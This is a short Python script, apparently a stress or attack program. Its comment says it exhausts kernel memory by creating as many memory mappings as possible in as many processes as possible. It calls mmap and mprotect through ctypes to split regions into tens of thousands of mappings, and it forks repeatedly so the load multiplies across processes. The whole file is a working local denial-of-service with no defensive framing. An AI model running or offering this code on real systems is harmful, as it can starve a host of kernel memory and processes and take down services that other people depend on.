# Makes as many mappings as a process can have, in as many processes as possible: each takes kernel memory.
import ctypes, mmap, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
def fill():
    region = libc.mmap(None, ctypes.c_size_t(70_000 * 8192), 0, 0x22 | 0x4000, -1, ctypes.c_long(0))
    if region in (None, ctypes.c_void_p(-1).value):
        region = libc.mmap(None, ctypes.c_size_t(20_000 * 8192), 0, 0x22 | 0x4000, -1, ctypes.c_long(0))
    for number in range(70_000):
        if libc.mprotect(ctypes.c_void_p(region + number * 8192), ctypes.c_size_t(4096), 1) != 0:
            break
try:
    for _ in range(28):
        if os.fork() == 0:
            fill()
            time.sleep(60)
    time.sleep(4)
except OSError:
    fill()
print("held", flush=True)
os._exit(0)
